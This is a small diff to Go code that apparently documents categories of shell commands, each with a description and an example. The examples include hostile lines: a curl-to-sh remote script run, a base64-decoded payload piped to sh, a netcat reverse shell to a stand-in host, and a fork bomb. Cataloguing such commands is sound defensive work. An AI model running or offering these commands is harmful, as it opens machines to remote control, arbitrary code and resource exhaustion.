@@ -19,7 +19,7 @@ func VerbDocs() []VerbDoc {
 		{Link, "a path", "another name for it is made; from is the new name", "ln -s /etc/x y"},
 		{Run, "a path", "a program in a file that nobody has shown", "./deploy.sh"},
 		{RunRemote, "an address", "a program from the network is run", "curl https://x.example/i.sh | sh"},
-		{RunHidden, "what hides it", "a program that was decoded or made by another program is run", "echo cm0= | base64 -d | sh"},
+		{RunHidden, "what hides it", "a program that was decoded or made by another program is run", "base64 -d payload.b64 | sh"},
 		{ReverseShell, "an address", "another machine gets a shell", "nc -e /bin/sh x.example 4444"},
 		{Exhaust, "what does it", "the machine is used up", ":(){ :|:& };:"},
 		{Kill, "a process", "processes are ended, by name, number or pattern", "pkill node"},
